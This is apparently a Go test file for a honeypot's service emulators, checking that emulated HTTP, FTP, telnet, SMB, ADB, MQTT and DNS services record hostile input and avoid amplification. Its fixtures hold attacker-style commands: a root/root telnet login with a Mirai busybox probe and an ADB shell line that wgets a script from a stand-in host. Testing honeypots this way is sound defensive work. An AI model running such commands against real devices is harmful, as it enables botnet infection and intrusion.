package emulate

import (
	"bytes"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"dragnet/trap/session"
)

// play gives a service what a client sends, and returns what it answered and why
// it ended.
func play(t testing.TB, port uint16, sent []byte) (s *session.Session, reason string) {
	t.Helper()
	client, server := net.Pipe()
	r := session.NewRecorder(session.Session{}, 1<<20, time.Now)
	done := make(chan string, 1)
	go func() {
		defer server.Close()
		done <- Serve(NewConn(server, r, 200*time.Millisecond, time.Now().Add(5*time.Second), nil), port)
	}()
	go io.Copy(io.Discard, client)
	client.SetWriteDeadline(time.Now().Add(3 * time.Second))
	client.Write(sent) // the service may have ended before all is read
	select {
	case reason = <-done:
	case <-time.After(20 * time.Second):
		t.Fatalf("port %d: a session does not end", port)
	}
	client.Close()
	return r.Finish(reason), reason
}

func TestServices(t *testing.T) {
	for _, c := range []struct {
		name         string
		port         uint16
		sent, answer string
	}{
		{"http", 80, "GET / HTTP/1.0\r\n\r\n", "It works!"},
		{"http", 8123, "POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc", "200 OK"}, // on another port
		{"http", 80, "GET /" + strings.Repeat("A", 5000), "HTTP/1.1 400"},
		{"ftp", 21, "USER a\r\nPASS b\r\nPASV\r\nPORT 1,2,3,4,5,6\r\nSTOR x\r\nQUIT\r\n", "500 Use passive mode."},
		{"telnet", 23, "root\r\nroot\r\nenable\r\necho -e '\\x67\\x61'\r\n/bin/busybox MIRAI\r\nexit\r\n", "MIRAI: applet not found"},
		{"smtp", 25, "EHLO a\r\nMAIL FROM:<a>\r\nDATA\r\nhello\r\n.\r\nQUIT\r\n", "queued"},
		{"redis", 6379, "*1\r\n$4\r\nPING\r\nPING\r\nQUIT\r\n", "+PONG"},
		{"smb", 445, "\x00\x00\x00\x2f\xffSMB\x72" + strings.Repeat("\x00", 27) + "\x00\x0c\x00\x02NT LM 0.12\x00", "\xffSMB"},
		{"tds", 1433, "\x12\x01\x00\x1a\x00\x00\x01\x00" + strings.Repeat("\x00", 18), "\x04\x01"},
		{"dcerpc", 135, "\x05\x00\x0b\x03\x10\x00\x00\x00\x10\x00\x00\x00\x01\x00\x00\x00", "\x05\x00\x0c"},
		{"mqtt", 1883, "\x10\x0d\x00\x04MQTT\x04\x02\x00\x3c\x00\x01a\x32\x08\x00\x01t\x00\x07abc\x82\x06\x00\x08\x00\x01t\x00\xe0\x00", "\x20\x02\x00\x00\x40\x02\x00\x07\x90\x03\x00\x08\x00"},
		{"mqtt", 4444, "\x10\x0d\x00\x04MQTT\x05\x02\x00\x3c\x00\x00\x01a", "\x20\x03\x00\x00\x00"}, // version 5
		{"sip", 5060, "OPTIONS sip:a@b SIP/2.0\r\nVia: SIP/2.0/TCP c;branch=z9hG4bK1\r\nFrom: <sip:c>;tag=2\r\nTo: <sip:a@b>\r\nCall-ID: 3\r\nCSeq: 1 OPTIONS\r\n\r\n", "To: <sip:a@b>;tag=1\r\nCall-ID: 3\r\nCSeq: 1 OPTIONS"},
		{"adb", 5555, string(adbMessage(adbConnect, adbVersion, 4096, []byte("host::\x00"))) + string(adbMessage(adbOpen, 7, 0, []byte("shell:wget http://x/a.sh\x00"))), "wget: not found"},
		{"ssh", 22, "SSH-2.0-x\r\n", "SSH-2.0-"},
		{"generic", 4444, "anything at all", ""},
		{"generic", 4445, "", "220 ready"},
		{"dns", 53, "\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03org\x00\x00\x01\x00\x01", "\xc6"},
	} {
		s, reason := play(t, c.port, []byte(c.sent))
		if s.Service != c.name || !bytes.Contains(s.Answered, []byte(c.answer)) || string(s.Sent) != c.sent {
			t.Errorf("port %d: %s, %s, sent %d of %d bytes, answered %q", c.port, s.Service, reason, len(s.Sent), len(c.sent), s.Answered)
		}
	}
	if got := unescape(`\x67\x61y\x`); got != `gay\x` {
		t.Errorf("%q", got)
	}
}

// TestDatagramsAreNotAmplified: no answer is longer than what was received.
func TestDatagramsAreNotAmplified(t *testing.T) {
	query := []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03org\x00\x00\x01\x00\x01")
	var d DatagramState
	for _, c := range []struct {
		port uint16
		sent []byte
		want int // bytes answered
	}{
		{53, query, len(query)}, {53, []byte("x"), 0}, {69, []byte("\x00\x02f\x00octet\x00"), 4}, {69, []byte("\x00\x03\x00\x01abc"), 4}, {69, []byte("\x00\x01"), 0}, {69, []byte("\x00\x01f\x00octet\x00"), 5}, {9999, query, 0},
	} {
		if got := d.Answer(c.port, c.sent); len(got) != c.want || len(got) > len(c.sent) {
			t.Errorf("port %d answers %d bytes with %d, want %d", c.port, len(c.sent), len(got), c.want)
		}
	}
}

// FuzzServe gives each service hostile bytes: it ends in time, and what it was
// sent is recorded as it was.
func FuzzServe(f *testing.F) {
	ports := []uint16{80, 443, 445, 1433, 135, 21, 23, 25, 6379, 53, 4444, 22, 5060, 1883, 5555}
	for i := range ports {
		f.Add(uint8(i), []byte("\x00\x00\x00\x2f\xffSMB\x72"))
		f.Add(uint8(i), []byte("GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n"))
		f.Add(uint8(i), []byte("\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"))
	}
	f.Fuzz(func(t *testing.T, which uint8, sent []byte) {
		if len(sent) > 4096 {
			return
		}
		s, _ := play(t, ports[int(which)%len(ports)], sent)
		if !bytes.HasPrefix(sent, s.Sent) {
			t.Errorf("recorded %q of %q", s.Sent, sent)
		}
	})
}

// FuzzDatagram: no answer is longer than the datagram.
func FuzzDatagram(f *testing.F) {
	f.Add(uint16(53), []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x00\x00\x01\x00\x01"))
	f.Add(uint16(69), []byte("\x00\x02f\x00octet\x00"))
	f.Fuzz(func(t *testing.T, port uint16, b []byte) {
		var d DatagramState
		for range 2 {
			// The array sends an answer only if enough was received; TFTP's are 4 or 5
			// bytes to at least 4.
			if got := d.Answer(port, b); len(got) > max(len(b), 5) {
				t.Errorf("%d bytes are answered with %d", len(b), len(got))
			}
		}
	})
}
